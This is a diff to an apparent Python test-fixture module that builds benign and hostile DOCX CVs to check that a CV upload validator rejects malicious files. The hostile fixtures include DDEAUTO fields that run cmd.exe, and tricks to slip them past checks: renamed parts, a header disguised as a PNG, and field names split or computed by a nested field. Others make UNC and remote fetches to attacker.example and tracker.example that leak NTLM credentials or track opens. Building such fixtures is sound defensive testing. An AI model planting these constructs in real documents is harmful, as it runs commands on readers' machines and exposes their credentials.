@@ -686,6 +686,72 @@ def document_xml(body: str | None = None) -> bytes:
     ).encode()
 
 
+WORDML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
+HEADER_CONTENT_TYPE = f"{WORDML}.header+xml"
+FOOTER_CONTENT_TYPE = f"{WORDML}.footer+xml"
+
+
+def field_runs(*code: str, result: str = "") -> str:
+    """The runs of a complex field: begin, its code split into one ``w:instrText`` run per
+    piece of ``code`` (as Word splits it after edits), separate, ``result`` and end. XML
+    special characters in ``code`` must already be escaped."""
+    pieces = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code
+    )
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + pieces
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + f"<w:r><w:t>{result}</w:t></w:r>"
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def story_xml(root: str, body: str) -> bytes:
+    """A header (``root="hdr"``), footer (``"ftr"``), settings... part holding ``body``."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        f'<w:{root} xmlns:w="{W_NS}" xmlns:r="{REL}">{body}</w:{root}>'
+    ).encode()
+
+
+MC_NS = "http://schemas.openxmlformats.org/markup-compatibility/2006"
+VML_NS = "urn:schemas-microsoft-com:vml"
+WPS_NS = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"
+
+
+def text_box_with_fallback(content: str) -> str:
+    """A text box holding ``content`` as Word writes it: an ``mc:AlternateContent`` whose
+    Choice is for Word 2010 and later and whose Fallback (VML, for older readers) repeats the
+    content. Shape details Word needs to draw it are left out; they change nothing here."""
+    return (
+        f'<mc:AlternateContent xmlns:mc="{MC_NS}" xmlns:v="{VML_NS}" xmlns:wps="{WPS_NS}">'
+        f'<mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>{content}'
+        "</w:txbxContent></wps:txbx></w:drawing></mc:Choice>"
+        f"<mc:Fallback><w:pict><v:textbox><w:txbxContent>{content}</w:txbxContent>"
+        "</v:textbox></w:pict></mc:Fallback></mc:AlternateContent>"
+    )
+
+
+def docx_with_field(*code: str) -> bytes:
+    """A valid DOCX whose body holds one complex field with ``code`` split over runs."""
+    return _docx_with({"word/document.xml": document_xml(f"<w:p>{field_runs(*code)}</w:p>")})
+
+
+def _docx_with_story(
+    relationship: str, target: str, data: bytes, *, overrides: Mapping[str, str] | None = None
+) -> bytes:
+    """A valid DOCX whose document links a header, footer... part stored at ``word/<target>``."""
+    parts = valid_docx_parts()
+    parts["[Content_Types].xml"] = content_types_xml(overrides)
+    parts["word/_rels/document.xml.rels"] = relationships_xml(
+        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
+        (relationship, target, None),
+    )
+    parts[f"word/{target}"] = data
+    return build_docx(parts)
+
+
 def valid_docx_parts() -> dict[str, bytes]:
     """The parts of a minimal valid DOCX, for tests to alter before ``build_docx``."""
     return {
@@ -792,6 +858,91 @@ def valid_docx_with_page_field() -> bytes:
         '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
     )
     return _docx_with({"word/document.xml": document_xml(body)})
+
+
+def valid_docx_with_ordinary_fields() -> bytes:
+    """A CV with the fields real CVs carry: "Page X of Y" in its footer (one simple field),
+    a table of contents, a HYPERLINK field to a profile and one to a bookmark, a
+    cross-reference, a formula over a nested PAGE field, a long Zotero citation whose data
+    holds URLs and the words "link" and "data" (add-in data Word never acts on), and a DATE
+    field in a text box (written twice, for new and old versions of Word)."""
+    citation = (
+        "ADDIN ZOTERO_ITEM CSL_CITATION {&quot;citationItems&quot;:[{&quot;uris&quot;:"
+        "[&quot;http://zotero.org/users/1/items/ABCD&quot;],&quot;itemData&quot;:{&quot;title"
+        "&quot;:&quot;Link prediction with data import&quot;,&quot;URL&quot;:&quot;"
+        "https://doi.org/10.1000/xyz&quot;,&quot;abstract&quot;:&quot;"
+        + "We study link prediction. " * 800  # 20 000 characters: citation data runs long
+        + "&quot;}}]}"
+    )
+    date = " DATE \\@ &quot;MMMM yyyy&quot; "
+    body = (
+        "<w:p>"
+        + field_runs(' TOC \\o "1-3" \\h \\z \\u ', result="Experience")
+        + "</w:p><w:p>"
+        + field_runs(" HYPERLINK ", '"https://github.com/jane-doe"', result="GitHub")
+        + field_runs(' HYPERLINK \\l "_Experience" \\o "Jump to experience" ')
+        + field_runs(" REF _Ref12345 \\h ", result="Experience")
+        + "</w:p><w:p>"
+        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + '<w:r><w:instrText xml:space="preserve"> = </w:instrText></w:r>'
+        + field_runs(" PAGE ", result="1")
+        + '<w:r><w:instrText xml:space="preserve"> + 1 </w:instrText></w:r>'
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>2</w:t></w:r>'
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        + "</w:p><w:p>"
+        + field_runs(citation, result="(Doe, 2021)")
+        + "</w:p><w:p><w:r>"
+        + text_box_with_fallback(f"<w:p>{field_runs(date)}</w:p>")
+        + "</w:r></w:p>"
+    )
+    footer = story_xml(
+        "ftr",
+        '<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r>'
+        '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
+        '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
+        + field_runs(" NUMPAGES ", result="2")
+        + "</w:p>",
+    )
+    parts = valid_docx_parts()
+    parts["[Content_Types].xml"] = content_types_xml({"/word/footer1.xml": FOOTER_CONTENT_TYPE})
+    parts["word/document.xml"] = document_xml(body)
+    parts["word/footer1.xml"] = footer
+    parts["word/_rels/document.xml.rels"] = relationships_xml(
+        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
+        ("footer", "footer1.xml", None),
+    )
+    return build_docx(parts)
+
+
+def valid_docx_with_main_part_named_dat() -> bytes:
+    """A plain CV whose main part is ``word/document.dat``: Word finds it through
+    ``_rels/.rels`` and knows it by its declared content type, not its name."""
+    parts = valid_docx_parts()
+    parts["[Content_Types].xml"] = content_types_xml({"/word/document.dat": MAIN_CONTENT_TYPE})
+    parts["_rels/.rels"] = relationships_xml(("officeDocument", "word/document.dat", None))
+    parts["word/document.dat"] = parts.pop("word/document.xml")
+    parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
+    return build_docx(parts)
+
+
+def valid_docx_with_svg_logo() -> bytes:
+    """A CV with an SVG logo as Illustrator exports it, DOCTYPE and entities included: Word
+    draws it as a picture and never reads it as a document."""
+    svg = (
+        b'<?xml version="1.0" encoding="utf-8"?>\n'
+        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
+        b'[<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>\n'
+        b'<svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>'
+    )
+    parts = valid_docx_parts()
+    parts["[Content_Types].xml"] = content_types_xml(defaults={"svg": "image/svg+xml"})
+    parts["word/media/image1.svg"] = svg
+    parts["word/_rels/document.xml.rels"] = relationships_xml(
+        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
+        ("image", "media/image1.svg", None),
+    )
+    return build_docx(parts)
 
 
 # --------------------------------------------------------------------------------------------
@@ -984,6 +1135,118 @@ def docx_dde_field() -> bytes:
         '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
     )
     return _docx_with({"word/document.xml": document_xml(body)})
+
+
+# Files on a network share, as written in a field's code (backslashes doubled):
+# \\attacker.example\share\cv.docx and so on.
+_UNC_DOCX = r"\\\\attacker.example\\share\\cv.docx"
+_UNC_XLSX = r"\\\\attacker.example\\share\\cv.xlsx"
+_UNC_PDF = r"\\\\attacker.example\\share\\cv.pdf"
+_DDE_COMMAND = r"c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;"
+
+
+def docx_dde_field_in_main_part_named_dat() -> bytes:
+    """A DDEAUTO field in a main document named ``word/document.dat``: declared by an
+    Override content type and found through ``_rels/.rels``, so Word opens it as the
+    document, while a check choosing parts by the ``.xml`` extension never reads it."""
+    parts = valid_docx_parts()
+    parts["[Content_Types].xml"] = content_types_xml({"/word/document.dat": MAIN_CONTENT_TYPE})
+    parts["_rels/.rels"] = relationships_xml(("officeDocument", "word/document.dat", None))
+    parts["word/document.dat"] = document_xml(
+        f"<w:p>{field_runs(' DDEAUTO ' + _DDE_COMMAND)}</w:p>"
+    )
+    del parts["word/document.xml"]
+    parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
+    return build_docx(parts)
+
+
+def docx_includepicture_field_remote() -> bytes:
+    """A linked picture as a field (``\\d``: not stored, fetched on every update), its name
+    in mixed case and split over runs: a tracking hit each time the CV is opened."""
+    return docx_with_field(" includeP", 'icture  "https://tracker.example/cv-opened.png" \\d ')
+
+
+def docx_includetext_field_unc_in_header() -> bytes:
+    """An INCLUDETEXT field in a header that pulls in a document from a network share:
+    Windows connects to the attacker's server with the reader's NTLM credentials."""
+    header = story_xml("hdr", f"<w:p>{field_runs(' INCLUDETEXT ' + _UNC_DOCX)}</w:p>")
+    return _docx_with_story(
+        "header", "header1.xml", header, overrides={"/word/header1.xml": HEADER_CONTENT_TYPE}
+    )
+
+
+def docx_link_field_unc() -> bytes:
+    """A LINK field (an OLE link) to a workbook on a network share, updated automatically
+    (``\\a``), written as a simple field."""
+    instr = f" LINK Excel.Sheet.12 &quot;{_UNC_XLSX}&quot; &quot;Sheet1!R1C1&quot; \\a \\f 0 "
+    body = f'<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>42</w:t></w:r></w:fldSimple></w:p>'
+    return _docx_with({"word/document.xml": document_xml(body)})
+
+
+def docx_import_field_in_footer_named_dat() -> bytes:
+    """An IMPORT field (a picture read from a URL) in a footer named ``footer1.dat``,
+    declared as a footer by an Override content type."""
+    instr = " IMPORT &quot;https://tracker.example/logo.png&quot; "
+    footer = story_xml("ftr", f'<w:p><w:fldSimple w:instr="{instr}"/></w:p>')
+    return _docx_with_story(
+        "footer", "footer1.dat", footer, overrides={"/word/footer1.dat": FOOTER_CONTENT_TYPE}
+    )
+
+
+def docx_header_declared_as_image() -> bytes:
+    """A header part stored as ``media/image2.png`` (so its content type says PNG) holding a
+    DDEAUTO field: the document's relationship still makes Word read it as a header."""
+    header = story_xml("hdr", f"<w:p>{field_runs(' DDEAUTO ' + _DDE_COMMAND)}</w:p>")
+    return _docx_with_story("header", "media/image2.png", header)
+
+
+def docx_field_name_computed_by_nested_field() -> bytes:
+    """A field whose name is "DD", then a nested QUOTE field's result ("E"), then "AUTO":
+    Word splices the pieces into DDEAUTO when it updates the field."""
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
+        + field_runs(" QUOTE &quot;E&quot; ", result="E")
+        + f'<w:r><w:instrText xml:space="preserve">AUTO {_DDE_COMMAND}</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return _docx_with({"word/document.xml": document_xml(body)})
+
+
+def docx_dde_field_split_across_paragraphs() -> bytes:
+    """A DDEAUTO field whose code runs on into the next paragraph ("DD" | "EAUTO ...")."""
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r></w:p>'
+        f'<w:p><w:r><w:instrText xml:space="preserve">EAUTO {_DDE_COMMAND}</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return _docx_with({"word/document.xml": document_xml(body)})
+
+
+def docx_hyperlink_field_unc() -> bytes:
+    """A HYPERLINK field to a network share: one click sends the reader's NTLM hash."""
+    return docx_with_field(f' HYPERLINK "{_UNC_PDF}" ')
+
+
+_MAIL_MERGE = (
+    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
+    '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;'
+    'Data Source=\\\\attacker.example\\share\\people.xlsx"/>'
+    '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'
+)
+
+
+def docx_mail_merge_connection_string() -> bytes:
+    """A mail-merge main document whose connection string names a workbook on a network
+    share: on open Word offers to run its query, and connects if the reader agrees."""
+    parts = valid_docx_parts()
+    parts["word/settings.xml"] = story_xml("settings", _MAIL_MERGE)
+    parts["word/_rels/document.xml.rels"] = relationships_xml(
+        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
+        ("settings", "settings.xml", None),
+    )
+    return build_docx(parts)
 
 
 def _zeros_deflated(size: int) -> tuple[bytes, int]:
@@ -1212,6 +1475,9 @@ GOOD_CVS: dict[str, tuple[Callable[[], bytes], str]] = {
     "docx_with_printer_settings": (valid_docx_with_printer_settings, "docx"),
     "docx_with_stale_ole_declaration": (valid_docx_with_stale_ole_declaration, "docx"),
     "docx_with_page_field": (valid_docx_with_page_field, "docx"),
+    "docx_with_ordinary_fields": (valid_docx_with_ordinary_fields, "docx"),
+    "docx_with_main_part_named_dat": (valid_docx_with_main_part_named_dat, "docx"),
+    "docx_with_svg_logo": (valid_docx_with_svg_logo, "docx"),
 }
 
 #: Hostile files by name, with the ``CvRejected.code`` each must produce.
@@ -1286,6 +1552,37 @@ _HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "docx_billion_laughs_rels": (docx_billion_laughs_rels, "docx_unsafe_xml"),
     "docx_xxe_document": (docx_xxe_document, "docx_unsafe_xml"),
     "docx_dde_field": (docx_dde_field, "docx_active_content"),
+    "docx_dde_field_in_main_part_named_dat": (
+        docx_dde_field_in_main_part_named_dat,
+        "docx_active_content",
+    ),
+    "docx_includepicture_field_remote": (
+        docx_includepicture_field_remote,
+        "docx_external_relationship",
+    ),
+    "docx_includetext_field_unc_in_header": (
+        docx_includetext_field_unc_in_header,
+        "docx_external_relationship",
+    ),
+    "docx_link_field_unc": (docx_link_field_unc, "docx_external_relationship"),
+    "docx_import_field_in_footer_named_dat": (
+        docx_import_field_in_footer_named_dat,
+        "docx_external_relationship",
+    ),
+    "docx_header_declared_as_image": (docx_header_declared_as_image, "docx_active_content"),
+    "docx_field_name_computed_by_nested_field": (
+        docx_field_name_computed_by_nested_field,
+        "docx_active_content",
+    ),
+    "docx_dde_field_split_across_paragraphs": (
+        docx_dde_field_split_across_paragraphs,
+        "docx_active_content",
+    ),
+    "docx_hyperlink_field_unc": (docx_hyperlink_field_unc, "unsafe_link"),
+    "docx_mail_merge_connection_string": (
+        docx_mail_merge_connection_string,
+        "docx_external_relationship",
+    ),
     "docx_zip_bomb": (docx_zip_bomb, "docx_too_large"),
     "docx_compression_ratio_bomb": (docx_compression_ratio_bomb, "docx_compression_ratio"),
     "docx_overlapping_entries_same_offset": (
